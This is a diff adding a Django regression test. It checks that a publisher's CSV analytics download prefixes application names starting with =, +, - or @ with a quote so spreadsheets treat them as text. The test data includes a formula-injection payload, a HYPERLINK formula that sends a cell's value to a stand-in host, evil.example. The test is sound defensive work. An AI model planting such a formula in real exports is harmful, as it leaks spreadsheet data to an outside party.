@@ -99,3 +99,26 @@ def test_the_page_itself_no_longer_takes_a_post(chat, publisher):
     audits = AuditEvent.objects.count()
     assert _client(publisher).post(_page(chat), {"connection": CONNECTION}).status_code == 405
     assert _nothing_changed(audits)
+
+
+def test_the_csv_download_writes_chosen_names_as_text_not_formulas(publisher, chat):
+    # Developers name their applications: a name a spreadsheet would run (=HYPERLINK(...))
+    # went into the publisher's download as a live formula.
+    import csv
+    import io
+
+    from django.utils import timezone
+    from rest_framework.test import APIClient
+
+    from analytics.models import TrafficStat
+
+    for name in ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2", "@SUM(A1)", "Plain"):
+        TrafficStat.objects.create(
+            minute=timezone.now(), api_id=str(chat.id), application_name=name, topic="/rooms", kind="frame", label="in"
+        )
+    rest = APIClient()
+    rest.force_authenticate(publisher)
+    resp = rest.get(f"/api/am/publisher/v4/apis/{chat.id}/analytics", {"range": "1h", "format": "csv"})
+    assert resp.status_code == 200
+    names = sorted(row["application"] for row in csv.DictReader(io.StringIO(resp.content.decode())))
+    assert names == ["'+1", "'-2", '\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(A1)", "Plain"]
